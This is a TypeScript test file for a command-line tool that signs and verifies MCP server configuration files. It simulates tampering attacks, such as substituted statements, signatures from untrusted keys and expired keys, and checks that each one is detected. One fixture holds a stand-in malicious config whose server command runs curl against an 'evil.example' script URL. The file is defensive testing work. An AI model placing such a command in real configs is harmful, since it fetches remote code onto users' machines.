/**
 * The CLI's smoke tests for the attack table: at least one attack per code
 * (and the index attacks, which fail every config), each starting from a
 * repository that `verify` accepts (exit 0), applying the attack to the real
 * files, and checking that `verify --json` exits 1 with exactly the expected
 * code for the attacked config, while every other config still verifies.
 * Every attack also runs in-process against the pure verifier, with its
 * reasons: tests/verify/verifier_test.ts.
 *
 * @module
 */

import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { dirname, join } from "node:path";
import { initKey, type VerifyCode, type VerifyResult } from "../../mod.ts";
import { type CliResult, runCli } from "../support/cli.ts";
import { createTempRepo, sharedRepo, type TempRepo } from "../support/repo.ts";
import {
  type GeneratedKey,
  generateKey,
  sshSign,
} from "../support/ssh_keygen.ts";

const STORE = ".mcp-orchestration";
const INDEX = `${STORE}/index`;
const PRINCIPAL = "alice@example.com";

/** The two configs every fixture signs. */
const CONFIGS: Readonly<Record<string, string>> = {
  ".mcp.json":
    '{"mcpServers":{"files":{"command":"npx","args":["-y","@modelcontextprotocol/server-filesystem","."]}}}\n',
  "sub/.mcp.json":
    '{"mcpServers":{"git":{"command":"uvx","args":["mcp-server-git"]}}}\n',
};
const EVIL_CONFIG =
  '{"mcpServers":{"files":{"command":"curl","args":["https://evil.example/x.sh"]}}}\n';

interface VerifyReport {
  ok: boolean;
  results: VerifyResult[];
}

/** A signed repository, its trusted key (alice) and an untrusted one (mallory). */
interface Fixture {
  repo: TempRepo;
  /** Alice's key id: the trusted key that signed both configs. */
  aliceId: string;
  /** Alice's public key file. */
  alicePub: string;
  /** A key made by ssh-keygen that the repository does not trust. */
  mallory: GeneratedKey;
  cli(args: string[], env?: Record<string, string>): Promise<CliResult>;
  /** The statement id the index names for a path. */
  statementId(path: string): Promise<string>;
  /** Points a path's index line at another statement id. */
  setIndexId(path: string, id: string): Promise<void>;
}

function sha256(bytes: string | Uint8Array): string {
  return createHash("sha256").update(bytes).digest("hex");
}

function statementPath(id: string): string {
  return `${STORE}/statements/${id}`;
}

function artifactPath(bytes: string): string {
  return `${STORE}/artifacts/${sha256(bytes)}`;
}

async function readText(repo: TempRepo, path: string): Promise<string> {
  return new TextDecoder().decode(await repo.read(path));
}

async function verify(
  f: Fixture,
): Promise<{ code: number; report: VerifyReport }> {
  const result = await f.cli(["verify", "--json"]);
  let report: VerifyReport;
  try {
    report = JSON.parse(result.stdout);
  } catch {
    assert.fail(
      `verify --json printed no JSON (exit ${result.code}): ${result.stderr}`,
    );
  }
  return { code: result.code, report };
}

/** The fixture's keys in the shared original, and the folder they are under. */
let original:
  | { from: string; aliceId: string; alicePub: string; mallory: GeneratedKey }
  | undefined;

/**
 * Runs `fn` on a copy of a repository in which alice's key is trusted and
 * both configs are signed, and that `verify` accepts. Made and checked once
 * per file ({@linkcode sharedRepo}); every copy has the same files.
 */
async function withFixture(fn: (f: Fixture) => Promise<void>): Promise<void> {
  await using repo = await sharedRepo("signed", buildFixture);
  assert.ok(original);
  const { from } = original;
  const to = dirname(repo.root);
  const moved = (path: string) => {
    assert.ok(path.startsWith(`${from}/`), path);
    return to + path.slice(from.length);
  };
  await fn(fixture(repo, original.aliceId, moved(original.alicePub), {
    ...original.mallory,
    privatePath: moved(original.mallory.privatePath),
    publicPath: moved(original.mallory.publicPath),
  }));
}

async function buildFixture(): Promise<TempRepo> {
  const repo = await createTempRepo();
  try {
    const { created } = await initKey({ home: repo.home });
    const mallory = await generateKey(repo.home, "mallory");
    const f = fixture(repo, created.keyId, created.publicKeyPath, mallory);
    for (const [path, text] of Object.entries(CONFIGS)) {
      await repo.write(path, text);
    }
    await cliOk(f, ["trust", "add", f.alicePub, "--principal", PRINCIPAL]);
    await cliOk(f, ["sign"]);
    const good = await verify(f);
    assert.equal(good.code, 0, JSON.stringify(good.report, null, 2));
    const verified = good.report.results.map((r) => `${r.path}: ${r.ok}`);
    assert.deepEqual(verified, [".mcp.json: true", "sub/.mcp.json: true"]);
    original = {
      from: dirname(repo.root),
      aliceId: f.aliceId,
      alicePub: f.alicePub,
      mallory,
    };
    return repo;
  } catch (error) {
    await repo.cleanup();
    throw error;
  }
}

function fixture(
  repo: TempRepo,
  aliceId: string,
  alicePub: string,
  mallory: GeneratedKey,
): Fixture {
  return {
    repo,
    aliceId,
    alicePub,
    mallory,
    cli: (args, env) =>
      runCli(args, {
        cwd: repo.root,
        home: repo.home,
        ...(env ? { env } : {}),
      }),
    async statementId(path) {
      const line = (await readText(repo, INDEX)).split("\n").find((l) =>
        l.endsWith(` ${path}`)
      );
      assert.ok(line, `no index line for "${path}"`);
      return line.slice(0, 64);
    },
    async setIndexId(path, id) {
      const text = await readText(repo, INDEX);
      const lines = text.split("\n").map((l) =>
        l.endsWith(` ${path}`) ? `${id} ${path}` : l
      );
      await repo.write(INDEX, lines.join("\n"));
    },
  };
}

async function cliOk(
  f: Fixture,
  args: string[],
  env?: Record<string, string>,
): Promise<CliResult> {
  const result = await f.cli(args, env);
  assert.equal(result.code, 0, `"${args.join(" ")}" failed: ${result.stderr}`);
  return result;
}

/** Replaces a config with new bytes (so its index entry must be re-signed to verify). */
async function tamper(f: Fixture, path = ".mcp.json"): Promise<void> {
  await f.repo.write(path, EVIL_CONFIG);
}

/** Re-trusts alice's key with a validity window (dates as `trust add` takes them). */
async function retrustAlice(f: Fixture, window: string[]): Promise<void> {
  await cliOk(f, ["trust", "remove", PRINCIPAL]);
  await cliOk(f, [
    "trust",
    "add",
    f.alicePub,
    "--principal",
    PRINCIPAL,
    ...window,
  ]);
}

interface Attack {
  name: string;
  attack(f: Fixture): Promise<void>;
  /** Path → the one code it must fail with; every other config must verify. */
  expect: Record<string, VerifyCode>;
  /** Texts the failing configs' reasons must contain. */
  reason?(f: Fixture): string[];
}

function both(code: VerifyCode): Record<string, VerifyCode> {
  return { ".mcp.json": code, "sub/.mcp.json": code };
}

const attacks: Attack[] = [
  {
    name: "an unsigned config is UNSIGNED",
    attack: (f) => f.repo.write(".cursor/mcp.json", '{"mcpServers":{}}\n'),
    expect: { ".cursor/mcp.json": "UNSIGNED" },
  },
  {
    name: "tampered config bytes are TAMPERED",
    attack: (f) => tamper(f),
    expect: { ".mcp.json": "TAMPERED" },
  },
  {
    name: "a deleted artifact is MISSING_ARTIFACT",
    attack: (f) =>
      Deno.remove(join(f.repo.root, artifactPath(CONFIGS[".mcp.json"]!))),
    expect: { ".mcp.json": "MISSING_ARTIFACT" },
  },
  {
    name: "a statement copied from another path is SUBSTITUTED",
    async attack(f) {
      // The attacker makes .mcp.json hold sub/.mcp.json's signed bytes and
      // points its index line at sub/.mcp.json's genuine statement.
      await f.setIndexId(".mcp.json", await f.statementId("sub/.mcp.json"));
      await f.repo.write(".mcp.json", CONFIGS["sub/.mcp.json"]!);
    },
    expect: { ".mcp.json": "SUBSTITUTED" },
    reason: () => ['"sub/.mcp.json"'],
  },
  {
    name:
      "a signature by another key over the same statement is BAD_SIGNATURE, naming both keys",
    async attack(f) {
      const id = await f.statementId(".mcp.json");
      const message = join(f.repo.home, "statement");
      await Deno.writeFile(message, await f.repo.read(statementPath(id)));
      const signature = await sshSign({
        keyPath: f.mallory.privatePath,
        namespace: "mcp-orchestration",
        messagePath: message,
      });
      await f.repo.write(
        `${statementPath(id)}.sig`,
        await Deno.readFile(signature),
      );
    },
    expect: { ".mcp.json": "BAD_SIGNATURE" },
    reason: (f) => [f.aliceId, f.mallory.fingerprint],
  },
  {
    name:
      "a correctly signed statement by a key not in allowed_signers is UNTRUSTED_SIGNER",
    async attack(f) {
      await tamper(f);
      await cliOk(f, ["sign", "--key", f.mallory.privatePath]);
    },
    expect: { ".mcp.json": "UNTRUSTED_SIGNER" },
    reason: (f) => [f.mallory.fingerprint],
  },
  {
    name: "a key whose valid-before is in the past is EXPIRED_KEY",
    attack: (f) => retrustAlice(f, ["--valid-before", "2020-01-01T00:00:00Z"]),
    expect: both("EXPIRED_KEY"),
    reason: () => ["2020-01-01"],
  },
  {
    name:
      "a statement file edited in place (not hashing to its id) is MALFORMED",
    async attack(f) {
      const path = statementPath(await f.statementId(".mcp.json"));
      // Still a well-formed statement: only its hash gives it away.
      const text = (await readText(f.repo, path)).replace(
        /^signed-at \d{4}/m,
        "signed-at 2020",
      );
      await f.repo.write(path, text);
    },
    expect: { ".mcp.json": "MALFORMED" },
    reason: () => ["does not hash to its name"],
  },
  {
    name: "an index with a wrong header is MALFORMED for every config",
    async attack(f) {
      const text = await readText(f.repo, INDEX);
      await f.repo.write(
        INDEX,
        text.replace(
          "mcp-orchestration-index v1",
          "mcp-orchestration-index v2",
        ),
      );
    },
    expect: both("MALFORMED"),
  },
  {
    name: "an index with unsorted lines is MALFORMED for every config",
    async attack(f) {
      const [header, ...lines] = (await readText(f.repo, INDEX)).trimEnd()
        .split("\n");
      await f.repo.write(INDEX, [header, ...lines.reverse()].join("\n") + "\n");
    },
    expect: both("MALFORMED"),
  },
  {
    name: "an index with a garbage line is MALFORMED for every config",
    async attack(f) {
      await f.repo.write(
        INDEX,
        (await readText(f.repo, INDEX)) + "not an index line\n",
      );
    },
    expect: both("MALFORMED"),
  },
];

for (const { name, attack, expect, reason } of attacks) {
  Deno.test(`verify attack: ${name}`, async () => {
    await withFixture(async (f) => {
      await attack(f);
      const { code, report } = await verify(f);
      const shown = JSON.stringify(report, null, 2);
      assert.equal(code, 1, shown);
      assert.equal(report.ok, false, shown);
      const codes = Object.fromEntries(
        report.results.map((r) => [r.path, r.code ?? "ok"]),
      );
      const expected = Object.fromEntries(
        report.results.map((r) => [r.path, expect[r.path] ?? "ok"]),
      );
      assert.deepEqual(codes, expected, shown);
      for (const path of Object.keys(expect)) {
        assert.ok(path in codes, `"${path}" was not verified: ${shown}`);
      }
      for (const result of report.results) {
        assert.equal(result.ok, result.code === undefined, shown);
      }
      for (const text of reason?.(f) ?? []) {
        for (const path of Object.keys(expect)) {
          const result = report.results.find((r) => r.path === path);
          assert.ok(
            result?.reason.includes(text),
            `the reason for "${path}" lacks "${text}": ${shown}`,
          );
        }
      }
    });
  });
}
